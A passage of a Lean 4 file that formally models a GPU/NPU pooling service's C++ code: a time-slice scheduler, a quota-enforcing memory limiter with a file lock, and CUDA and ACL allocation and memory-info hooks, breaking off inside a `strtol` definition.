import Mathlib

/-!
# flexai xpu-pool-service: time-slice scheduler, memory limiter, hooks and parsers

Shallow embedding of
* `xpu-pool-service/direct/acl/src/npu_timeslice_scheduler.cpp`
  (with the constants and the `Context` layout of `npu_timeslice_scheduler.h`),
* `GPU-Virtual-Service/xpu-pool-service/direct/common/src/memory_limiter.cpp`
  and `memory_limiter.h`, with the `FileLock` of `file_lock.h` / `file_lock.cpp`,
* the allocation and information hooks of
  `xpu-pool-service/direct/cuda/src/hooks/cuda_hooks.cpp` and
  `xpu-pool-service/direct/acl/src/hooks/runtime_hooks.cpp`,
* `xpu-pool-service/direct/cuda/src/pid_manager.cpp`,
* `IsDangerousCommand` of
  `GPU-Virtual-Service/xpu-pool-service/direct/common/src/register.cpp`,
* `GPU-Virtual-Service/xpu-pool-service/direct/common/src/resource_config.cpp`,
* the guards and the watcher of
  `xpu-pool-service/direct/acl/src/npu_core_limiter.cpp`, with the `Sem` of
  `sem.h` and the `StreamCache` of `stream_cache.h`.

Conventions of the embedding.
* A steady-clock `time_point` / `duration` is its count of nanoseconds, an `Int`
  (the C++ representation is a signed 64-bit count; differences of two
  non-negative time points never overflow it). `clock::time_point()` is `0`.
* `std::atomic<int> current` is an `Int`, `std::atomic<uint32_t> magicNumber`
  and `unsigned int usedUnits` are `Nat`.
* `nodes[MAX_NODE_NUMBER]` is a list of heartbeats; a region is well formed when
  the list has `MAX_NODE_NUMBER` entries. An access `nodes[i]` with `i` outside
  `[0, MAX_NODE_NUMBER)` is undefined behaviour in C++; here it makes the
  operation return `none`.
* `size_t` and `unsigned long` values are `Nat` with sums and products taken
  modulo `2 ^ 64`, `unsigned int` values modulo `2 ^ 32`; a `std::string` is a list
  of characters.
* Every operation is run uncontended: it is a function from the region before
  the call to the region after it. `compare_exchange_strong` is the sequential
  compare-and-swap, including the write-back of the observed value into the
  `expected` argument when it fails.
* A wait on a semaphore that does not end at once never ends, no other thread
  being there to release: the operation returns `none`. A loop that depends on
  the clock takes its readings from a function `clk` and is given fuel.
* Sums, differences and products of durations are taken in `Int`; the overflow
  of the signed 64-bit count, undefined in C++, is outside the model.
-/

namespace NpuTimesliceScheduler

/-! ## Constants (`common.h`, `npu_timeslice_scheduler.h`) -/

def RET_SUCC : Int := 0

def RET_FAIL : Int := 1

/-- The initializing mark `('i' << 24) | ('n' << 16) | ('i' << 8) | 't'`. -/
def MAGIC_NUMBER_INIT : Nat := 0x696e6974

/-- The ready mark `('v' << 24) | ('N' << 16) | ('P' << 8) | 'U'`. -/
def MAGIC_NUMBER : Nat := 0x764e5055

def PERIOD_UNIT_NUMBER : Nat := 100

def MIN_COMPUTE_POWER : Nat := 5

def MAX_NODE_NUMBER : Nat := PERIOD_UNIT_NUMBER / MIN_COMPUTE_POWER

/-- One millisecond, in nanoseconds: `TIME_UNIT = std::chrono::milliseconds(1)`. -/
def TIME_UNIT : Int := 1000000

/-- The rotation timeout `PERIOD_TIMEOUT = TIME_UNIT * PERIOD_UNIT_NUMBER`. -/
def PERIOD_TIMEOUT : Int := TIME_UNIT * PERIOD_UNIT_NUMBER

/-- One second, in nanoseconds: `ERR_CHECK_TIMEOUT = std::chrono::seconds(1)`. -/
def ERR_CHECK_TIMEOUT : Int := 1000000000

/-- Modelled from the spec: `SelectNewCurrent` compares against a constant named
`ERROR_CHECK_TIMEOUT`, which the header does not declare (it declares
`ERR_CHECK_TIMEOUT`, one second). The spec gives the liveness bound of the
election as `ALIVE_TIMEOUT`, about one second, so the constant is one second. -/
def ERROR_CHECK_TIMEOUT : Int := 1000000000

/-! ## The shared region (`struct Context`) and the per-process fields -/

/-- The shared region `NpuTimesliceScheduler::Context`; `nodes` holds the
`periodCheck` heartbeat of every slot. -/
structure Context where
  magicNumber : Nat
  timeUnit : Int
  usedUnits : Nat
  current : Int
  nodes : List Int
deriving DecidableEq, Repr

/-- The region has the `MAX_NODE_NUMBER` slots of `Node nodes[MAX_NODE_NUMBER]`. -/
def Context.WellFormed (ctx : Context) : Prop :=
  ctx.nodes.length = MAX_NODE_NUMBER

instance (ctx : Context) : Decidable ctx.WellFormed := by
  unfold Context.WellFormed; infer_instance

/-- Modelled from the spec: `CheckCurrent` reads `context_->scheduler`, a field
that `struct Context` does not declare. The spec's take-current step reads
`current` and compares it with `idx`, and `current` is the only index field of
the region, so `scheduler` is read as `current`. -/
def Context.scheduler (ctx : Context) : Int := ctx.current

/-- The read `context_->nodes[i].periodCheck`; `none` when `i` is outside the array. -/
def Context.node (ctx : Context) (i : Int) : Option Int :=
  if 0 ≤ i ∧ i < MAX_NODE_NUMBER then ctx.nodes[i.toNat]? else none

/-- The write `context_->nodes[i].periodCheck = t`; `none` when `i` is outside the array. -/
def Context.setNode (ctx : Context) (i : Int) (t : Int) : Option Context :=
  if 0 ≤ i ∧ i < MAX_NODE_NUMBER ∧ i.toNat < ctx.nodes.length then
    some { ctx with nodes := ctx.nodes.set i.toNat t }
  else none

/-- The call `context_->current.compare_exchange_strong(expected, desired)` run
uncontended: the success flag, the value of `expected` after the call (the
observed `current` when the exchange fails) and the region after the call. -/
def compare_exchange_strong (ctx : Context) (expected desired : Int) : Bool × Int × Context :=
  if ctx.current = expected then (true, expected, { ctx with current := desired })
  else (false, ctx.current, ctx)

/-- The call `context_->magicNumber.compare_exchange_strong(expected, desired)`. -/
def magic_compare_exchange_strong (ctx : Context) (expected desired : Nat) :
    Bool × Nat × Context :=
  if ctx.magicNumber = expected then (true, expected, { ctx with magicNumber := desired })
  else (false, ctx.magicNumber, ctx)

/-- The per-process fields set by `Init`: `idx_`, whether `context_` is non-null,
and `quotaPercent_`. -/
structure Proc where
  idx : Int
  attached : Bool
  quotaPercent : Nat
deriving DecidableEq, Repr

/-! ## `Init` -/

/-- The loop `for (int i = 0; i < n; i++) nodes[i].periodCheck = clock::time_point();`. -/
def clearNodes (ctx : Context) : Nat → Option Context
  | 0 => some ctx
  | n + 1 => (clearNodes ctx n).bind (fun c => c.setNode (n : Int) 0)

/-- The `while (true)` loop of `Init` for one attaching node. `clk k` is the
`k`-th reading of `clock::now()`, `begin` the local of that name, `k` the number
of readings taken so far. The result is the region at `return RET_SUCC`;
`none` when the loop has not returned after `fuel` iterations. After a won
initialization the body ends without a `return`, so the loop runs once more and
returns on reading `MAGIC_NUMBER`. -/
def initLoop (clk : Nat → Int) : Nat → Int → Nat → Context → Option Context
  | 0, _, _, _ => none
  | fuel + 1, begin, k, ctx =>
    let state := ctx.magicNumber
    if state = MAGIC_NUMBER then some ctx
    else if state = MAGIC_NUMBER_INIT then
      let now := clk k
      if now - begin > ERR_CHECK_TIMEOUT then
        initLoop clk fuel now (k + 1) (magic_compare_exchange_strong ctx state 0).2.2
      else initLoop clk fuel begin (k + 1) ctx
    else
      let r := magic_compare_exchange_strong ctx state MAGIC_NUMBER_INIT
      if !r.1 then initLoop clk fuel begin k r.2.2
      else
        let c1 : Context := { r.2.2 with magicNumber := MAGIC_NUMBER_INIT }
        match clearNodes c1 MAX_NODE_NUMBER with
        | none => none
        | some c2 => initLoop clk fuel begin k { c2 with magicNumber := MAGIC_NUMBER }

/-- The method `Init(idx, context, quota)`: the return code, the per-process fields and the
region after the call (`context = none` is the null pointer). `none` when the
loop has not returned after `fuel` iterations. -/
def Init (fuel : Nat) (clk : Nat → Int) (p : Proc) (idx : Int) (context : Option Context)
    (quota : Nat) : Option (Int × Proc × Option Context) :=
  if idx < 0 ∨ idx > MAX_NODE_NUMBER then some (RET_FAIL, p, context)
  else
    match context with
    | none => some (RET_FAIL, p, none)
    | some ctx =>
      let p1 : Proc := { idx := idx, attached := true, quotaPercent := quota }
      match initLoop clk fuel (clk 0) 1 ctx with
      | none => none
      | some c => some (RET_SUCC, p1, some c)

/-! ## `UpdateTimestamp`, `CheckCurrent`, `SelectNewCurrent`, `ReleaseCurrent` -/

/-- The method `UpdateTimestamp()` when `Clock::now()` reads `now`: the returned time and the
region with `nodes[idx_].periodCheck = now`. -/
def UpdateTimestamp (idx : Int) (now : Int) (ctx : Context) : Option (Int × Context) :=
  (ctx.setNode idx now).map (fun c => (now, c))

/-- One iteration of the election scan of `SelectNewCurrent` on the pair
`(best, lastTimestamp)`. The source's second test names `bestTimestamp`, which
is declared nowhere; the running timestamp of the scan is `lastTimestamp`
(initialised before the loop and assigned at its end), so that is what the
test reads. -/
def selectStep (ctx : Context) (now : Int) (i : Nat) (st : Int × Int) : Option (Int × Int) :=
  match ctx.node (i : Int) with
  | none => none
  | some periodCheck =>
    if now - periodCheck > ERROR_CHECK_TIMEOUT then some st
    else if st.2 < periodCheck then some st
    else some ((i : Int), periodCheck)

/-- The scan `for (int i = 0; i < n; i++) { ... }` of `SelectNewCurrent`, from
the initial pair `st`. -/
def selectLoop (ctx : Context) (now : Int) : Nat → Int × Int → Option (Int × Int)
  | 0, st => some st
  | n + 1, st => (selectLoop ctx now n st).bind (selectStep ctx now n)

/-- The method `SelectNewCurrent()`, uncontended. -/
def SelectNewCurrent (idx : Int) (ctx : Context) : Option Context :=
  let cur := ctx.current
  match ctx.node cur with
  | none => none
  | some curTimestamp =>
    match ctx.node idx with
    | none => none
    | some now =>
      if now - curTimestamp > ERROR_CHECK_TIMEOUT then some ctx
      else
        match selectLoop ctx now MAX_NODE_NUMBER (idx, now) with
        | none => none
        | some st => some (compare_exchange_strong ctx cur st.1).2.2

/-- The method `CheckCurrent()`: the returned flag and the region after the call. -/
def CheckCurrent (idx : Int) (ctx : Context) : Option (Bool × Context) :=
  if ctx.scheduler ≠ idx then some (true, ctx)
  else (SelectNewCurrent idx ctx).map (fun c => (false, c))

/-- The loop of `ReleaseCurrent` from iteration `i` with `remaining` iterations
left (`i + remaining = MAX_NODE_NUMBER`); `cur` is the local of that name, which
a failed compare-and-swap overwrites with the observed `current`. The `%` of
C++ truncates toward zero. -/
def releaseLoop (now : Int) : Nat → Nat → Int → Context → Option Context
  | 0, _, _, ctx => some ctx
  | remaining + 1, i, cur, ctx =>
    let next := Int.tmod (cur + (i : Int)) (MAX_NODE_NUMBER : Int)
    match ctx.node next with
    | none => none
    | some periodCheck =>
      if now - periodCheck > PERIOD_TIMEOUT then releaseLoop now remaining (i + 1) cur ctx
      else
        let r := compare_exchange_strong ctx cur next
        if r.1 then some r.2.2
        else releaseLoop now remaining (i + 1) r.2.1 r.2.2

/-- The method `ReleaseCurrent()`, uncontended. -/
def ReleaseCurrent (idx : Int) (ctx : Context) : Option Context :=
  match ctx.node idx with
  | none => none
  | some now => releaseLoop now MAX_NODE_NUMBER 0 idx ctx

/-! ## Repeated attaches and concrete regions -/

/-- Successive `Init` calls on one region, each by a scheduler object `p` with
its own `idx` and `quota`: the list of return codes and the region after the
last call. `none` when a call has not returned after `fuel` loop iterations. -/
def InitAll (fuel : Nat) (clk : Nat → Int) : List (Proc × Int × Nat) → Context →
    Option (List Int × Context)
  | [], ctx => some ([], ctx)
  | (p, idx, quota) :: rest, ctx =>
    match Init fuel clk p idx (some ctx) quota with
    | some (ret, _, some c) => (InitAll fuel clk rest c).map (fun r => (ret :: r.1, r.2))
    | _ => none

/-- A region in the ready state with the given holder and heartbeats. -/
def readyRegion (current : Int) (nodes : List Int) : Context :=
  { magicNumber := MAGIC_NUMBER, timeUnit := TIME_UNIT, usedUnits := 0, current := current,
    nodes := nodes }

/-- Node 0 holds the role; slots 0 and 1 both beat at 5 s, the other slots never did. -/
def releaseInput : Context :=
  readyRegion 0 (5000000000 :: 5000000000 :: List.replicate 18 0)

/-- Node 0 holds the role and beat at 5 s; slot 1 beat at 4.9 s, the other slots never did. -/
def holderInput : Context :=
  readyRegion 0 (5000000000 :: 4900000000 :: List.replicate 18 0)

/-- Node 1 holds the role and is alive: slots 0 and 1 both beat at 5 s. -/
def waitingInput : Context :=
  readyRegion 1 (5000000000 :: 5000000000 :: List.replicate 18 0)

/-- Node 1 holds the role with heartbeat 0, five seconds older than node 0's beat at
5 s; slot 2 beat at 4.9 s. -/
def deadHolderInput : Context :=
  readyRegion 1 (5000000000 :: 0 :: 4900000000 :: List.replicate 17 0)

/-- Node 3 holds the role (beat at 4.9 s); node 0 beat at 5 s; slots 1 and 2 share the
oldest live heartbeat 4.5 s. -/
def tieInput : Context :=
  readyRegion 3 (5000000000 :: 4500000000 :: 4500000000 :: 4900000000 :: List.replicate 16 0)

/-- Node 5 holds the role; all twenty slots beat at 5 s. -/
def bystanderInput : Context :=
  readyRegion 5 (List.replicate 20 5000000000)

/-- A region left behind with `magicNumber = 0` (as after the forced reset of a
stuck initialization): the role is at slot 7 and thirty units have been used. -/
def staleInput : Context :=
  { magicNumber := 0, timeUnit := 0, usedUnits := 30, current := 7,
    nodes := List.replicate 20 5000000000 }

/-- The fields of a scheduler object before `Init`. -/
def freshProc : Proc := { idx := 0, attached := false, quotaPercent := 0 }

end NpuTimesliceScheduler

/-! ## `MemoryLimiter::MemoryCheck` -/

namespace MemoryLimiter

/-- The number of values of a `size_t` (64 bits). -/
def SIZE_MODULUS : Nat := 2 ^ 64

/-- The method `MemoryCheck(requested)`. `limitMemory` is `config_.LimitMemory()`,
`memoryUsed` the result of `xpu_.MemoryUsed(used)` (its return code and the
value it stores in `used`), `quota` is `config_.MemoryQuota()`. The sum
`requested + used` is a `size_t` sum, taken modulo `2 ^ 64`. -/
def MemoryCheck (limitMemory : Bool) (memoryUsed : Int × Nat) (quota : Nat)
    (requested : Nat) : Bool :=
  if !limitMemory then true
  else
    let ret := memoryUsed.1
    let used := memoryUsed.2
    if ret ≠ 0 then false
    else if (requested + used) % SIZE_MODULUS > quota then false
    else true

end MemoryLimiter

/-! ## `FileLock` and `MemoryLimiter::GuardedMemoryCheck` -/

/-- The fields `fd_` and `held_` of a `FileLock`. -/
structure FileLock where
  fd : Int
  held : Bool
deriving DecidableEq, Repr

namespace FileLock

def INVALID_FD : Int := -1

/-- The method `Aquire(operation)` when `flock` returns `flockResult`: the returned flag and
the lock object after the call. -/
def Aquire (l : FileLock) (flockResult : Int) : Bool × FileLock :=
  if flockResult ≠ 0 then (false, l) else (true, { l with held := true })

/-- The constructor `FileLock(path, operation)` when `open` returns `openResult`
and `flock` (if it is reached) returns `flockResult`. -/
def create (openResult flockResult : Int) : FileLock :=
  let l : FileLock := { fd := openResult, held := false }
  if l.fd = -1 then l else (l.Aquire flockResult).2

/-- The method `Held()`. -/
def Held (l : FileLock) : Bool := l.held

/-- The move constructor `FileLock(FileLock&& other)`: the new object and `other`
after the move. -/
def moveFrom (other : FileLock) : FileLock × FileLock :=
  ({ fd := other.fd, held := other.held }, { fd := INVALID_FD, held := false })

end FileLock

namespace MemoryLimiter

/-- The struct `MemoryLimiter::Guard`. -/
structure Guard where
  lock : FileLock
  enough : Bool
deriving DecidableEq, Repr

/-- The method `Guard::Error()`. -/
def Guard.Error (g : Guard) : Bool := !g.lock.Held

/-- What a memory check reads from outside the limiter: the configuration
(`LimitMemory()`, `MemoryQuota()`), the result of `xpu_.MemoryUsed(used)` and
the results of `open` and `flock` on the lock file. -/
structure Env where
  limitMemory : Bool
  memoryQuota : Nat
  memoryUsed : Int × Nat
  lockOpen : Int
  lockFlock : Int
deriving DecidableEq, Repr

/-- The method `GuardedMemoryCheck(requested)`: the lock is taken, then moved into the
guard together with the result of `MemoryCheck(requested)`. -/
def GuardedMemoryCheck (env : Env) (requested : Nat) : Guard :=
  let lock := FileLock.create env.lockOpen env.lockFlock
  { lock := lock.moveFrom.1,
    enough := MemoryCheck env.limitMemory env.memoryUsed env.memoryQuota requested }

/-- Limiting is on with a quota of 1 GiB, the lock is held, and the usage query fails
with code 1. -/
def failingQueryEnv : Env :=
  { limitMemory := true, memoryQuota := 1073741824, memoryUsed := (1, 0),
    lockOpen := 3, lockFlock := 0 }

/-- Limiting is on with the given quota, the lock is held, and the usage query
succeeds with the given number of bytes in use. -/
def limitedEnv (quota used : Nat) : Env :=
  { limitMemory := true, memoryQuota := quota, memoryUsed := (0, used),
    lockOpen := 3, lockFlock := 0 }

end MemoryLimiter

/-! ## Allocation and information hooks (`cuda_hooks.cpp`, `runtime_hooks.cpp`)

A hook receives the original driver function as `original`, a function of the
call's arguments and of the driver state `σ` (device memory, output
parameters); a hook that does not forward leaves the driver state unchanged. -/

/-- The result codes of `cuda.h` that the hooks name; any other code is `other`. -/
inductive CUresult where
  | CUDA_SUCCESS
  | CUDA_ERROR_OUT_OF_MEMORY
  | CUDA_ERROR_NOT_FOUND
  | CUDA_ERROR_UNKNOWN
  | other (code : Nat)
deriving DecidableEq, Repr

/-- The result codes of the ACL runtime that the hooks name; any other code is `other`. -/
inductive rtError_t where
  | ACL_ERROR_FAILURE
  | ACL_ERROR_STORAGE_OVER_LIMIT
  | other (code : Int)
deriving DecidableEq, Repr

namespace Hooks

open MemoryLimiter

/-- The number of values of an `unsigned int` (32 bits). -/
def UINT_MODULUS : Nat := 2 ^ 32

/-- The body shared by the allocation hooks once the guard is taken:
`if (memGuard.Error()) return failure; if (!memGuard.enough) return oom;
return original(...);`. -/
def guardedCall {R σ : Type} (failure oom : R) (memGuard : Guard) (original : σ → R × σ)
    (s : σ) : R × σ :=
  if memGuard.Error then (failure, s)
  else if !memGuard.enough then (oom, s)
  else original s

/-- The template `RoundUp(n, base)` instantiated at an unsigned type with `modulus`
values: `(n % base) ? (n + base - (n % base)) : n`. The result is `none` for
`base = 0` (a division by zero). -/
def RoundUp (modulus n base : Nat) : Option Nat :=
  if base = 0 then none
  else if n % base ≠ 0 then some ((n + base - n % base) % modulus)
  else some n

/-- The array formats of `cuda.h` that `CuarrayElementSize` names; any other
format is `other`. -/
inductive CUarray_format where
  | CU_AD_FORMAT_UNSIGNED_INT8
  | CU_AD_FORMAT_UNSIGNED_INT16
  | CU_AD_FORMAT_UNSIGNED_INT32
  | CU_AD_FORMAT_SIGNED_INT8
  | CU_AD_FORMAT_SIGNED_INT16
  | CU_AD_FORMAT_SIGNED_INT32
  | CU_AD_FORMAT_HALF
  | CU_AD_FORMAT_FLOAT
  | other (code : Int)
deriving DecidableEq, Repr

/-- The function `CuarrayElementSize(format)`. -/
def CuarrayElementSize : CUarray_format → Nat
  | .CU_AD_FORMAT_UNSIGNED_INT8 => 1
  | .CU_AD_FORMAT_SIGNED_INT8 => 1
  | .CU_AD_FORMAT_UNSIGNED_INT16 => 2
  | .CU_AD_FORMAT_SIGNED_INT16 => 2
  | .CU_AD_FORMAT_HALF => 2
  | .CU_AD_FORMAT_UNSIGNED_INT32 => 4
  | .CU_AD_FORMAT_SIGNED_INT32 => 4
  | .CU_AD_FORMAT_FLOAT => 4
  | .other _ => 8

/-- The fields of `CUDA_ARRAY_DESCRIPTOR` (and of its `_v1` form, whose widths
are `unsigned int`) read by `CalCuarraySize`. -/
structure CUDA_ARRAY_DESCRIPTOR where
  Width : Nat
  Height : Nat
  Format : CUarray_format
  NumChannels : Nat
deriving DecidableEq, Repr

/-- The fields of `CUDA_ARRAY3D_DESCRIPTOR` (and of its `_v1` form) read by
`CalCuarray3dSize`. -/
structure CUDA_ARRAY3D_DESCRIPTOR where
  Width : Nat
  Height : Nat
  Depth : Nat
  Format : CUarray_format
  NumChannels : Nat
  Flags : Nat
deriving DecidableEq, Repr

/-- The product of two `size_t` values. -/
def mulSize (a b : Nat) : Nat := (a * b) % SIZE_MODULUS

/-- The template `CalCuarraySize(pAllocateArray)`; every product is a `size_t` product. -/
def CalCuarraySize (d : CUDA_ARRAY_DESCRIPTOR) : Nat :=
  let elementSize := CuarrayElementSize d.Format
  let height := if d.Height = 0 then 1 else d.Height
  mulSize (mulSize (mulSize elementSize d.NumChannels) d.Width) height

/-- The template `CalCuarray3dSize(pAllocateArray)`; every product is a `size_t` product. -/
def CalCuarray3dSize (d : CUDA_ARRAY3D_DESCRIPTOR) : Nat :=
  let elementSize := CuarrayElementSize d.Format
  let height := if d.Height = 0 then 1 else d.Height
  let depth := if d.Depth = 0 then 1 else d.Depth
  mulSize (mulSize (mulSize (mulSize elementSize d.NumChannels) d.Width) height) depth


/-- The local `bytesize` of `cuMemAllocPitch_v2`:
`RoundUp(WidthInBytes * Height, ElementSizeBytes)` with `size_t` operands. -/
def cuMemAllocPitch_v2_bytesize (WidthInBytes Height ElementSizeBytes : Nat) : Option Nat :=
  RoundUp SIZE_MODULUS (mulSize WidthInBytes Height) ElementSizeBytes

/-- The local `bytesize` of `cuMemAllocPitch`:
`RoundUp(WidthInBytes * Height, ElementSizeBytes)` with `unsigned int` operands,
so the product and the rounding are taken modulo `2 ^ 32`. -/
def cuMemAllocPitch_bytesize (WidthInBytes Height ElementSizeBytes : Nat) : Option Nat :=
  RoundUp UINT_MODULUS ((WidthInBytes * Height) % UINT_MODULUS) ElementSizeBytes

section AllocationHooks

variable {σ : Type}

def cuMemAllocManaged (env : Env) (original : Nat → Nat → σ → CUresult × σ)
    (bytesize flags : Nat) (s : σ) : CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY (GuardedMemoryCheck env bytesize)
    (original bytesize flags) s

def cuMemAlloc_v2 (env : Env) (original : Nat → σ → CUresult × σ) (bytesize : Nat) (s : σ) :
    CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY (GuardedMemoryCheck env bytesize)
    (original bytesize) s

def cuMemAlloc (env : Env) (original : Nat → σ → CUresult × σ) (bytesize : Nat) (s : σ) :
    CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY (GuardedMemoryCheck env bytesize)
    (original bytesize) s

/-- The hook `cuMemAllocPitch_v2`; `none` when `ElementSizeBytes = 0` (the division by
zero of `RoundUp`). -/
def cuMemAllocPitch_v2 (env : Env) (original : Nat → Nat → Nat → σ → CUresult × σ)
    (WidthInBytes Height ElementSizeBytes : Nat) (s : σ) : Option (CUresult × σ) :=
  (cuMemAllocPitch_v2_bytesize WidthInBytes Height ElementSizeBytes).map fun bytesize =>
    guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY (GuardedMemoryCheck env bytesize)
      (original WidthInBytes Height ElementSizeBytes) s

/-- The hook `cuMemAllocPitch`; `none` when `ElementSizeBytes = 0`. -/
def cuMemAllocPitch (env : Env) (original : Nat → Nat → Nat → σ → CUresult × σ)
    (WidthInBytes Height ElementSizeBytes : Nat) (s : σ) : Option (CUresult × σ) :=
  (cuMemAllocPitch_bytesize WidthInBytes Height ElementSizeBytes).map fun bytesize =>
    guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY (GuardedMemoryCheck env bytesize)
      (original WidthInBytes Height ElementSizeBytes) s

def cuArrayCreate_v2 (env : Env) (original : CUDA_ARRAY_DESCRIPTOR → σ → CUresult × σ)
    (pAllocateArray : CUDA_ARRAY_DESCRIPTOR) (s : σ) : CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
    (GuardedMemoryCheck env (CalCuarraySize pAllocateArray)) (original pAllocateArray) s

def cuArrayCreate (env : Env) (original : CUDA_ARRAY_DESCRIPTOR → σ → CUresult × σ)
    (pAllocateArray : CUDA_ARRAY_DESCRIPTOR) (s : σ) : CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
    (GuardedMemoryCheck env (CalCuarraySize pAllocateArray)) (original pAllocateArray) s

def cuArray3DCreate_v2 (env : Env) (original : CUDA_ARRAY3D_DESCRIPTOR → σ → CUresult × σ)
    (pAllocateArray : CUDA_ARRAY3D_DESCRIPTOR) (s : σ) : CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
    (GuardedMemoryCheck env (CalCuarray3dSize pAllocateArray)) (original pAllocateArray) s

def cuArray3DCreate (env : Env) (original : CUDA_ARRAY3D_DESCRIPTOR → σ → CUresult × σ)
    (pAllocateArray : CUDA_ARRAY3D_DESCRIPTOR) (s : σ) : CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
    (GuardedMemoryCheck env (CalCuarray3dSize pAllocateArray)) (original pAllocateArray) s

def cuMipmappedArrayCreate (env : Env)
    (original : CUDA_ARRAY3D_DESCRIPTOR → Nat → σ → CUresult × σ)
    (pMipmappedArrayDesc : CUDA_ARRAY3D_DESCRIPTOR) (numMipmapLevels : Nat) (s : σ) :
    CUresult × σ :=
  guardedCall .CUDA_ERROR_UNKNOWN .CUDA_ERROR_OUT_OF_MEMORY
    (GuardedMemoryCheck env (CalCuarray3dSize pMipmappedArrayDesc))
    (original pMipmappedArrayDesc numMipmapLevels) s

def rtDvppMalloc (env : Env) (original : Nat → Nat → σ → rtError_t × σ) (size moduleId : Nat)
    (s : σ) : rtError_t × σ :=
  guardedCall .ACL_ERROR_FAILURE .ACL_ERROR_STORAGE_OVER_LIMIT (GuardedMemoryCheck env size)
    (original size moduleId) s

def rtMalloc (env : Env) (original : Nat → Nat → Nat → σ → rtError_t × σ)
    (size type moduleId : Nat) (s : σ) : rtError_t × σ :=
  guardedCall .ACL_ERROR_FAILURE .ACL_ERROR_STORAGE_OVER_LIMIT (GuardedMemoryCheck env size)
    (original size type moduleId) s

def rtDvppMallocWithFlag (env : Env) (original : Nat → Nat → Nat → σ → rtError_t × σ)
    (size flag moduleId : Nat) (s : σ) : rtError_t × σ :=
  guardedCall .ACL_ERROR_FAILURE .ACL_ERROR_STORAGE_OVER_LIMIT (GuardedMemoryCheck env size)
    (original size flag moduleId) s

def rtMallocManaged (env : Env) (original : Nat → Nat → Nat → σ → rtError_t × σ)
    (size flag moduleId : Nat) (s : σ) : rtError_t × σ :=
  guardedCall .ACL_ERROR_FAILURE .ACL_ERROR_STORAGE_OVER_LIMIT (GuardedMemoryCheck env size)
    (original size flag moduleId) s

def rtMallocCached (env : Env) (original : Nat → Nat → Nat → σ → rtError_t × σ)
    (size type moduleId : Nat) (s : σ) : rtError_t × σ :=
  guardedCall .ACL_ERROR_FAILURE .ACL_ERROR_STORAGE_OVER_LIMIT (GuardedMemoryCheck env size)
    (original size type moduleId) s

def rtMallocPhysical (env : Env) (original : Nat → Nat → σ → rtError_t × σ) (size flags : Nat)
    (s : σ) : rtError_t × σ :=
  guardedCall .ACL_ERROR_FAILURE .ACL_ERROR_STORAGE_OVER_LIMIT (GuardedMemoryCheck env size)
    (original size flags) s

end AllocationHooks

section InfoHooks

variable {σ : Type}

/-- The hook `cuDeviceTotalMem_v2(bytes, dev)`: the result code, the value stored in `*bytes`
and the driver state. -/
def cuDeviceTotalMem_v2 (env : Env) (original : Int → σ → CUresult × Nat × σ) (dev : Int)
    (s : σ) : CUresult × Nat × σ :=
  if env.limitMemory then (.CUDA_SUCCESS, env.memoryQuota, s)
  else original dev s

/-- The hook `cuDeviceTotalMem(bytes, dev)`, whose `*bytes` is an `unsigned int`: the quota
is converted to 32 bits by the store. -/
def cuDeviceTotalMem (env : Env) (original : Int → σ → CUresult × Nat × σ) (dev : Int)
    (s : σ) : CUresult × Nat × σ :=
  if env.limitMemory then (.CUDA_SUCCESS, env.memoryQuota % UINT_MODULUS, s)
  else original dev s

/-- The hook `cuMemGetInfo_v2(free, total)`: the result code, the values stored in `*free` and
`*total` (`none` when nothing is stored) and the driver state. -/
def cuMemGetInfo_v2 (env : Env) (original : σ → CUresult × Option (Nat × Nat) × σ) (s : σ) :
    CUresult × Option (Nat × Nat) × σ :=
  if env.limitMemory then
    let ret := env.memoryUsed.1
    let used := env.memoryUsed.2
    if ret ≠ 0 then (.CUDA_ERROR_NOT_FOUND, none, s)
    else
      let total := env.memoryQuota
      let free := if used ≥ total then 0 else total - used
      (.CUDA_SUCCESS, some (free, total), s)
  else original s

/-- The hook `cuMemGetInfo(free, total)`, whose `*free` and `*total` are `unsigned int`:
`*total` holds the quota converted to 32 bits, and `*total - used`, a `size_t`
difference, is converted to 32 bits by the store into `*free`. -/
def cuMemGetInfo (env : Env) (original : σ → CUresult × Option (Nat × Nat) × σ) (s : σ) :
    CUresult × Option (Nat × Nat) × σ :=
  if env.limitMemory then
    let ret := env.memoryUsed.1
    let used := env.memoryUsed.2
    if ret ≠ 0 then (.CUDA_ERROR_NOT_FOUND, none, s)
    else
      let total := env.memoryQuota % UINT_MODULUS
      let free := if used ≥ total then 0 else (total - used) % UINT_MODULUS
      (.CUDA_SUCCESS, some (free, total), s)
  else original s

end InfoHooks

end Hooks

/-! ## Library functions used by the parsers

`std::string` values are lists of characters. -/

namespace CLib

/-- The C function `isspace` in the C locale. -/
def isspace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\x0b' || c = '\x0c' || c = '\r'

/-- The C function `isdigit`. -/
def isdigit (c : Char) : Bool := decide ('0' ≤ c) && decide (c ≤ '9')

/-- The value of a decimal digit character. -/
def digitValue (c : Char) : Nat := c.toNat - '0'.toNat

/-- The number a string of decimal digits denotes. -/
def digitsValue (ds : List Char) : Nat := ds.foldl (fun acc c => acc * 10 + digitValue c) 0

def LONG_MAX : Int := 2 ^ 63 - 1

def LONG_MIN : Int := -(2 ^ 63)

def ULONG_MODULUS : Nat := 2 ^ 64

/-- The sign that `strtol` and `strtoul` accept after the white space: whether it is a
minus, and the rest of the string. -/
def takeSign : List Char → Bool × List Char
  | '-' :: rest => (true, rest)
  | '+' :: rest => (false, rest)
  | s => (false, s)

/-- The C function `strtol(s, nullptr, 10)` with a 64-bit `long`: white space is skipped, an
optional sign and the longest run of digits are read, the rest is ignored; the
result is 0 when there is no digit and is clamped to `LONG_MIN` / `LONG_MAX`. -/
def strtol (s : List Char) : Int :=
  let r := takeSign (s.dropWhile isspace)
